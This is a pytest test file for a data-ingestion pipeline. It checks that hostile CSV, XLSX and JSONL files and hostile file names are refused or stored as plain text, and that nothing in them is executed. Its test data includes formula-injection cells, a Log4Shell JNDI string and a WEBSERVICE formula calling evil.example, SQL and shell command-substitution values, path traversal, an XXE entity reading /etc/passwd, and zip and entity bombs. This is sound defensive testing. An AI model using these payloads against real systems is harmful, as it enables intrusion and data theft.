"""Hostile files: a clear refusal or a plain value, in bounded time and memory, nothing run.

Every case lies beside a good file, which is loaded all the same.
"""

from __future__ import annotations

import io
import os
import signal
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from dagster_project.lib import landing as landing_module
from dagster_project.lib.errors import ConfigurationError
from dagster_project.lib.ledger import FileEntry
from dagster_project.lib.loader import Loader
from dagster_project.lib.shops import read_shops
from tests.exports_helper import (
    SHOPS,
    Store,
    csv_text,
    order,
    product,
    review,
    table,
    xlsx_bytes,
)
from tests.support import fingerprint

MIB = 1 << 20
SECONDS = 180
GOOD = "good-2025-03-31.csv"


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "data")


@pytest.fixture(autouse=True)
def in_time() -> Iterator[None]:
    """Ends a test that hangs."""

    def end(*_: object) -> None:
        raise TimeoutError(f"took more than {SECONDS} s")

    before = signal.signal(signal.SIGALRM, end)
    signal.alarm(SECONDS)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


def beside_good(store: Store, dataset: str = "products") -> FileEntry | None:
    """Ingest what was dropped together with a good file; returns the entry of the other one."""
    store.drop([product(99)], "products", GOOD)
    before = set(store.data.root.parent.rglob("*"))
    entries = {entry.file_name: entry for entry in store.ingest()}
    inside = (store.data.root, *store.data.root.rglob("*"))
    assert set(store.data.root.parent.rglob("*")) <= before | set(inside)
    assert entries.pop(GOOD).status == "loaded"
    assert len(entries) < 2
    return next(iter(entries.values()), None)


# --- what is in a file ----------------------------------------------------------------------------

SPEAKING = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x","click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; drop table files; --",
    "${jndi:ldap://evil.example/x}",
    "{{ 7 * 7 }}",
    "$(touch owned)",
    "`touch owned`",
    "../../etc/passwd",
    "[red]rich[/]",
    "\x1b[31mred",
    "%s%n{0}",
]


@pytest.mark.parametrize("text", SPEAKING)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_speaking_values_are_plain_text(store: Store, text: str, kind: str) -> None:
    cells = table([product(product_name=text)])
    content = xlsx_bytes(cells) if kind == "xlsx" else csv_text(cells)
    assert store.load(content, name=f"p-2025-03-31.{kind}").rows_loaded == 1
    assert store.rows("products", "product_name") == [text]
    assert not list(store.data.root.parent.rglob("owned"))


@pytest.mark.parametrize("text", SPEAKING)
def test_speaking_headers_are_columns_that_nobody_knows(store: Store, text: str) -> None:
    assert store.load([{text: "1"} | product()]).status == "loaded"
    assert store.rows("products", "product_name") == ["Serum"]


def test_formulas_of_a_workbook_are_their_last_value(store: Store) -> None:
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        for column, (name, cell) in enumerate(product().items()):
            sheet.write_string(0, column, name)
            sheet.write_string(1, column, cell)
        sheet.write_formula(1, 2, '=WEBSERVICE("http://evil.example/")', None, "Serum")
    store.load(out.getvalue(), name="p-2025-03-31.xlsx")
    assert store.rows("products", "product_name") == ["Serum"]


def workbook_with(name: str, content: bytes) -> bytes:
    """A good workbook of which one part is replaced."""
    out = io.BytesIO()
    good = zipfile.ZipFile(io.BytesIO(xlsx_bytes(table([product()]))))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for part in good.namelist():
            book.writestr(part, content if part == name else good.read(part))
    return out.getvalue()


def entities(kind: str) -> bytes:
    declared = {
        "many": "".join(
            f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol" * 10}">' for n in range(12)
        ),
        "outside": '<!ENTITY l11 SYSTEM "file:///etc/passwd">',
    }[kind]
    return (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{declared}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>product_id</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>sku_id</t></is></c>'
        '<c r="C1" t="inlineStr"><is><t>product_name</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>1</t></is></c>'
        '<c r="B2" t="inlineStr"><is><t>2</t></is></c>'
        '<c r="C2" t="inlineStr"><is><t>&l11;</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


SHEET = "xl/worksheets/sheet1.xml"
BOMBS: dict[str, Callable[[], bytes]] = {
    "zip bomb": lambda: workbook_with(SHEET, b"<worksheet>" + b" " * (1500 * MIB)),
    "entities of entities": lambda: workbook_with(SHEET, entities("many")),
    "an entity from outside": lambda: workbook_with(SHEET, entities("outside")),
    "a cell of 100 MB": lambda: xlsx_bytes_with_long_cell(),
    "no workbook at all": lambda: b"\x89PNG\r\n\x1a\n" + bytes(1000),
    "an empty archive": lambda: b"PK\x05\x06" + bytes(18),
    "nothing": lambda: b"",
}


def xlsx_bytes_with_long_cell() -> bytes:
    sheet = entities("outside").replace(b"&l11;", b"a" * (100 * MIB))
    return workbook_with(SHEET, sheet[sheet.index(b"<worksheet") :])


@pytest.mark.parametrize("kind", BOMBS)
def test_workbooks_that_are_bombs_are_refused_and_the_others_go_on(store: Store, kind: str) -> None:
    store.drop(BOMBS[kind](), name="bomb-2025-03-31.xlsx")
    entry = beside_good(store)
    assert entry is not None
    if entry.status == "loaded":  # an entity is no text, and leaves the cell blank or the row out
        assert "root:" not in "".join(map(str, store.rows("products", "product_name")))
        assert max(map(len, store.rows("products", "coalesce(product_name, '')"))) < 1000
    else:
        assert entry.message.startswith("bomb-2025-03-31.xlsx ")


LONG = "a" * (100 * MIB)
PLAIN_BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a cell of 100 MB": (
        "csv",
        lambda: csv_text(table([product(product_name=LONG)])).encode(),
    ),
    "a header of 100 MB": ("csv", lambda: csv_text(table([product() | {LONG: "1"}])).encode()),
    "100,000 columns": (
        "csv",
        lambda: csv_text(table([product() | {f"c{n}": "" for n in range(100_000)}])).encode(),
    ),
    "a row of 100,000 cells": ("csv", lambda: csv_text([product(), ["x"] * 100_000]).encode()),
    "a line of 100 MB": ("jsonl", lambda: b'{"product_id": "' + LONG.encode() + b'"}'),
    "a deep nest": ("jsonl", lambda: b'{"a":' * 200_000),
    "zeros": ("csv", lambda: bytes(10 * MIB)),
    "a workbook": ("csv", lambda: xlsx_bytes(table([product()]))),
    "nothing": ("csv", lambda: b""),
    "only a byte order mark": ("csv", lambda: b"\xef\xbb\xbf"),
    "half a UTF-16 character": ("csv", lambda: b"\xff\xfea"),
}


@pytest.mark.parametrize("kind", PLAIN_BOMBS)
def test_text_files_that_are_bombs_are_refused_and_the_others_go_on(
    store: Store, kind: str
) -> None:
    suffix, make = PLAIN_BOMBS[kind]
    store.drop(make(), name=f"bomb-2025-03-31.{suffix}")
    entry = beside_good(store)
    assert entry is not None
    assert entry.status == "refused"
    assert len(entry.message) < 1000


def test_nul_bytes_stay_in_their_row(store: Store) -> None:
    rows = [product(1), product(2, product_name="a\0b"), *(product(n) for n in range(3, 100))]
    entry = store.load(rows)
    assert entry.status == "loaded"
    assert entry.rows_read == 99
    assert entry.rows_loaded >= 98
    names = store.rows("products", "product_name")
    assert names.count("Serum") == 98


_MEASURED = """
import resource, sys
from pathlib import Path
sys.path.insert(0, sys.argv[2])
from tests.exports_helper import Store
entries = Store(Path(sys.argv[1])).ingest()
print(*(f"{e.file_name} {e.status}" for e in entries), sep="\\n")
# the peak that the kernel gives includes that of the process that this one was forked from
own = next(line for line in Path("/proc/self/status").read_text().splitlines() if "VmHWM" in line)
children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(max(int(own.split()[1]), children) >> 10)
"""


@pytest.mark.slow
def test_bombs_take_no_more_memory_than_a_run_may(store: Store) -> None:
    store.drop(BOMBS["zip bomb"](), name="zip-2025-03-31.xlsx")
    for kind in ("a cell of 100 MB", "100,000 columns", "a line of 100 MB"):
        suffix, make = PLAIN_BOMBS[kind]
        store.drop(make(), name=f"{kind}-2025-03-31.{suffix}")
    store.drop([product(99)], "products", GOOD)
    root = Path(__file__).parents[1]
    done = subprocess.run(
        [sys.executable, "-c", _MEASURED, str(store.data.root), str(root)],
        capture_output=True,
        text=True,
        check=True,
    )
    *entries, peak = done.stdout.splitlines()
    assert sorted(entry.rpartition(" ")[2] for entry in entries) == ["loaded", *["refused"] * 4]
    assert int(peak) < 1536


# --- what a file is, where it lies ----------------------------------------------------------------


def test_what_is_no_file_of_the_landing_folder_is_never_opened(store: Store) -> None:
    outside = store.data.root / "outside"
    outside.mkdir(parents=True)
    (outside / "p-2025-03-31.csv").write_text(csv_text(table([product(1)])))
    folder = store.data.landing / "thai" / "products"
    folder.mkdir(parents=True)
    (folder / "link.csv").symlink_to(outside / "p-2025-03-31.csv")
    (folder / "links").symlink_to(outside)
    (folder / "folder.csv").mkdir()
    os.mkfifo(folder / "pipe.csv")
    (store.data.landing / "american").symlink_to(outside.parent)
    with socket.socket(socket.AF_UNIX) as server:
        here = Path.cwd()
        os.chdir(folder)  # the path of a socket is short
        try:
            server.bind("socket.csv")
        finally:
            os.chdir(here)
        assert beside_good(store) is None
    assert store.rows("products", "sku_id") == [product(99)["sku_id"]]


def test_a_file_that_may_not_be_read_is_refused_until_it_may(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = store.drop([product()], name="locked-2025-03-31.csv")
    opened = Path.open

    def locked(self: Path, *args: object, **kwargs: object) -> object:
        if self == path:
            raise PermissionError(13, "Permission denied", str(self))
        return opened(self, *args, **kwargs)  # type: ignore[call-overload]

    with monkeypatch.context() as patch:
        patch.setattr(Path, "open", locked)
        entry = beside_good(store)
        assert entry is not None
        assert entry.message.startswith(
            "locked-2025-03-31.csv cannot be read (PermissionError); give the user"
        )
        assert store.ingest() == []
    assert [e.status for e in store.ingest()] == ["loaded"]


@pytest.mark.parametrize("kind", ["csv", "xlsx", "jsonl"])
def test_a_file_that_vanishes_before_it_is_read_does_not_stop_the_others(
    store: Store, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    path = store.drop(xlsx_bytes(table([product()])), name=f"gone-2025-03-31.{kind}")
    load = Loader.load

    def late(self: Loader, files: list[landing_module.LandingFile]) -> None:
        path.unlink(missing_ok=True)
        load(self, files)

    monkeypatch.setattr(Loader, "load", late)
    store.drop([product(99)], "products", GOOD)
    assert [(e.file_name, e.status) for e in store.ingest()] == [(GOOD, "loaded")]


def test_a_file_that_vanishes_while_the_folder_is_listed_is_passed_over(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = store.drop([product()], name="gone-2025-03-31.csv")
    digest = landing_module.sha256

    def late(file: Path) -> str:
        path.unlink(missing_ok=True)
        return digest(file)

    monkeypatch.setattr(landing_module, "sha256", late)
    assert beside_good(store) is None


@pytest.mark.parametrize("name", [".DS_Store", "desktop.ini", "Thumbs.db", "~$orders.xlsx"])
def test_litter_of_file_managers_is_passed_over_wherever_it_lies(store: Store, name: str) -> None:
    store.data.landing.mkdir(parents=True)
    (store.data.landing / name).write_text("x")
    store.drop("x", "products", name)
    assert beside_good(store) is None


def test_nothing_but_a_file_in_no_shops_folder_is_an_error_that_says_where_to_put_it(
    store: Store,
) -> None:
    store.data.landing.mkdir(parents=True)
    (store.data.landing / "orders\n2025.csv").write_text("x")
    with pytest.raises(ConfigurationError, match=r"orders\\x0a2025.csv lies in no shop's folder"):
        store.ingest()


# --- names ----------------------------------------------------------------------------------------

NAMES = [
    "a'; drop table files; --",
    'quo"te',
    "semi;colon,comma",
    "line\nbreak\ttab\rreturn",
    "star*?[a]{b,c}",
    "\x1b[31mred\x1b[0m",
    "-rf",
    "~",
    "$HOME `id` $(id)",
    "[bold]rich",
    "ภาษาไทย",
    "n" * 200,
    "%s {0}",
]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("kind", ["csv", "xlsx", "jsonl"])
def test_file_names_are_plain_values(store: Store, name: str, kind: str) -> None:
    content = {
        "csv": csv_text(table([product()])).encode(),
        "xlsx": xlsx_bytes(table([product()])),
        "jsonl": b'{"product_id": "1", "sku_id": "2", "product_name": "Serum"}',
    }[kind]
    store.drop(content, name=f"{name} 2025-03-31.{kind}")
    entry = beside_good(store)
    assert entry is not None
    assert (entry.status, entry.rows_loaded) == ("loaded", 1)
    assert entry.file_name.isprintable()
    assert len(store.rows("products", "sku_id")) == 2


@pytest.mark.parametrize("shop", [name for name in NAMES if name.isprintable() and len(name) < 100])
def test_shop_ids_are_plain_values_where_they_are_folder_names(tmp_path: Path, shop: str) -> None:
    line = csv_text([[shop, "A", "TH", "Asia/Bangkok", "THB"]])
    store = Store(tmp_path / "data", SHOPS + line)
    store.drop([order()], "orders", shop=shop)
    store.drop([review()], "reviews", shop=shop)
    entries = store.ingest()
    assert [(e.shop_id, e.status) for e in entries] == [(shop, "loaded")] * 2
    assert store.rows("orders", "shop_id") == [shop]


@pytest.mark.parametrize("shop", ["../x", "/etc", "a/b", "..", ".", ".hidden", "a\\b", "a\nb", ""])
def test_shop_ids_that_are_paths_are_errors_and_nothing_is_written(
    tmp_path: Path, shop: str
) -> None:
    line = csv_text([[shop, "A", "TH", "Asia/Bangkok", "THB"]])
    store = Store(tmp_path / "data", SHOPS + line)
    before = fingerprint(tmp_path)
    with pytest.raises(ConfigurationError, match="is no shop_id"):
        read_shops(store.data.shops_csv)
    assert fingerprint(tmp_path) == before
